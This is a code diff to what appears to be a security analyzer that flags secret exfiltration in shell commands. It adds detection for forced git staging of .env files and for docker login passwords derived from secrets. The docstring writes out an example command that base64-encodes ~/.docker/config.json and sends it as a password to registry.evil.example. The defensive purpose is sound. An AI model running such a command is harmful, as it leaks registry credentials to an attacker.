@@ -142,6 +142,8 @@ def _staged(sub: str, ops: list[str], inv: Invocation, tainted: dict[str, str], 
             named = path_of(o, env)
             if named is not None and named in tainted:
                 return tainted[named]
+            if sub == "add" and not o.startswith("-") and (got := file_secret(o, env)):  # `git add -f .env`
+                return got
     if sub == "commit":
         for w in inv.args:
             if w.dynamic:
@@ -151,4 +153,19 @@ def _staged(sub: str, ops: list[str], inv: Invocation, tainted: dict[str, str], 
     return None
 
 
-__all__ = ["FLOW_PROGRAMS", "secret_flows"]
+def detect_login_secret(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``docker login -p "$(base64 ~/.docker/config.json)" registry.evil.example``: a password option
+    computed from a secret goes to whatever registry is named."""
+    texts = [w.text for w in inv.args]
+    if "login" not in texts[:3]:
+        return
+    for i, w in enumerate(inv.args):
+        value = w.text.split("=", 1)[1] if w.text.startswith("--password=") else (
+            inv.args[i + 1].text if w.text in ("-p", "--password") and i + 1 < len(inv.args) else None)
+        got = substituted_secret(value, env_for(inv, env), whole_files=True) if value else None
+        if got:
+            add(out, "net.exfiltration", inv, f"{inv.program} login sends {got} as a password to a registry")
+            return
+
+
+__all__ = ["FLOW_PROGRAMS", "detect_login_secret", "secret_flows"]
